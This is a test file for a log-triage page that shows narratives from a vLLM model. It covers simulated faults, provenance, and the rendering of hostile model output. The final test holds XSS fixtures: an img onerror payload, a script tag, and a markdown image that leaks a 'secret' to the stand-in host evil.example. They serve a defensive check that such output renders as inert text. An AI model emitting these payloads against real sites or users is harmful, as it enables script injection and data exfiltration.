import React from 'react';
import { render, screen, fireEvent, waitFor, within } from '@testing-library/react';
import { defaultSettings } from '../../settings';
import { prepareTriage } from '../pipeline';
import type { LogLine } from '../types';
import { testIds } from '../../testIds';
import { stubLayout } from '../../../tests/helpers/render';
import { proxyTo, renderTriage } from '../../../tests/helpers/triage';
import { startVllmSim, type VllmSim } from '../../../tests/helpers/vllmSim';
import { TriageResult } from './TriageResult';

// RTL over the real simulator (provisioning/vllm-sim/server.mjs): every failure the client knows shows a message
// that says what to do, and the facts table stays on screen.
let sim: VllmSim;
let authSim: VllmSim;
beforeAll(async () => {
  [sim, authSim] = await Promise.all([startVllmSim(), startVllmSim({ API_KEY: 'k' })]);
}, 30_000);
afterAll(async () => {
  await Promise.all([sim?.stop(), authSim?.stop()]);
});

const lines: LogLine[] = Array.from({ length: 12 }, (_, i) => ({
  time: Date.UTC(2026, 10, 23, 8) + i * 60_000,
  host: 'spark-host',
  unit: 'vllm.service',
  priority: 3,
  message: `EngineCore failed: CUDA error at step ${i}`,
}));
const settings = defaultSettings();
beforeAll(stubLayout);

/** The triage page with its vLLM behind the proxy route at `baseUrl`; the lines come in as a journal export. */
async function renderWith(baseUrl: string, model = 'Qwen/Qwen2.5-7B-Instruct', timeoutMs = 2000) {
  const s = defaultSettings();
  s.vllm = { ...s.vllm, url: 'http://spark-host:8000', model, timeoutSeconds: timeoutMs / 1000 };
  const page = renderTriage(s, { fetch: proxyTo(baseUrl) });
  await page.triage(lines);
}

async function expectFactsAndError(message: RegExp) {
  const err = await screen.findByTestId(testIds.triage.error, {}, { timeout: 8000 });
  expect(err.textContent).toMatch(message);
  expect(screen.getByTestId(testIds.triage.facts).textContent).toContain('EngineCore failed: CUDA error at step <NUM>');
  expect(screen.queryByTestId(testIds.triage.narrative)).toBeNull();
}

describe('TriageResult with the vLLM simulator', () => {
  it('shows facts, then the narrative with provenance, and reveals the exact prompt', async () => {
    await sim.fault('');
    await renderWith(sim.url);
    expect(within(screen.getByTestId(testIds.triage.tiles)).getByRole('region', { name: 'Lines' })).toHaveTextContent(/^Lines12/);
    const narrative = await screen.findByTestId(testIds.triage.narrative, {}, { timeout: 8000 });
    expect(narrative.textContent).toMatch(/12 error lines in the window/);
    // The panel says who wrote it (the model vLLM answered as) and from what.
    expect(
      within(screen.getByRole('region', { name: 'Narrative' })).getByRole('heading', {
        name: 'Written by Qwen/Qwen2.5-7B-Instruct from the facts below',
      })
    ).toBeInTheDocument();
    expect(screen.getByTestId(testIds.triage.provenance).textContent).toMatch(
      /Model Qwen\/Qwen2.5-7B-Instruct, \d+\.\d s, 12 lines, 1 of 1 templates, \d+ prompt tokens\./
    );
    fireEvent.click(screen.getByTestId(testIds.triage.showPrompt));
    const [body] = await sim.requests();
    const sent = (body.messages as Array<{ content: string }>).map((m) => m.content);
    const shown = screen.getByTestId(testIds.triage.prompt).textContent ?? '';
    for (const content of sent) {
      expect(shown).toContain(content);
    }
  });

  it.each([
    ['401', /rejected the API key \(401\)\. Set the vLLM API key on the app configuration page/],
    ['404', /does not serve the model "Qwen\/Qwen2.5-7B-Instruct" \(404\)/],
    ['flat_error', /longer than the model's context even after shrinking/],
    ['503', /unavailable \(503\).*Try again in a minute/],
    ['timeout', /did not answer within 0.5 s \(tried twice\).*raise the timeout/],
    ['malformed', /not an OpenAI chat completion/],
    ['empty', /no answer text/],
  ])('fault %s: a what-to-do message, facts still shown', async (fault, message) => {
    await sim.fault(fault);
    await renderWith(fault === '401' ? authSim.url : sim.url, 'Qwen/Qwen2.5-7B-Instruct', fault === 'timeout' ? 500 : 3000);
    await expectFactsAndError(message);
  });

  it('context-too-long once: shrinks, answers, and says so in the provenance', async () => {
    await sim.fault('400_context', 1);
    await renderWith(sim.url);
    await screen.findByTestId(testIds.triage.narrative, {}, { timeout: 8000 });
    expect(screen.getByTestId(testIds.triage.provenance).textContent).toMatch(/retried with fewer templates/);
  });

  it('reasoning is never shown', async () => {
    await sim.fault('reasoning', 1);
    await renderWith(sim.url);
    await screen.findByTestId(testIds.triage.narrative, {}, { timeout: 8000 });
    expect(document.body.textContent).not.toContain('REASONING-NOT-FOR-DISPLAY');
  });

  it('vLLM not running: Grafana’s proxy answers 502, and the message says what to check', async () => {
    await renderWith('http://127.0.0.1:9');
    await expectFactsAndError(/Grafana could not reach the vLLM URL \(502\).*vLLM is running/);
  });
});

describe('TriageResult rendering of hostile model output', () => {
  it('renders HTML, markdown images and links as inert text', async () => {
    const prepared = prepareTriage(lines, settings);
    const evil =
      '<img src=x onerror=alert(1)><b>bold</b> ![x](http://evil.example/leak?d=secret) [click](http://evil.example)';
    const narrate = async () => ({
      model: 'm',
      prompt: prepared.prompt,
      result: {
        ok: true as const,
        narrative: {
          summary: evil,
          likely_cause: '<script>x()</script>',
          next_steps: ['<a href="http://evil.example">go</a>'],
        },
        model: 'm',
        seconds: 1,
        structured: true,
        sent: [],
        notes: [],
      },
    });
    render(<TriageResult run={{ id: 1, source: 'test', lines, prepared, problems: [], outcome: await narrate() }} />);
    const n = await screen.findByTestId(testIds.triage.narrative);
    await waitFor(() => expect(n.textContent).toContain(evil));
    expect(n.querySelector('img, a, b, script')).toBeNull();
    expect(n.textContent).toContain('<a href="http://evil.example">go</a>');
  });
});
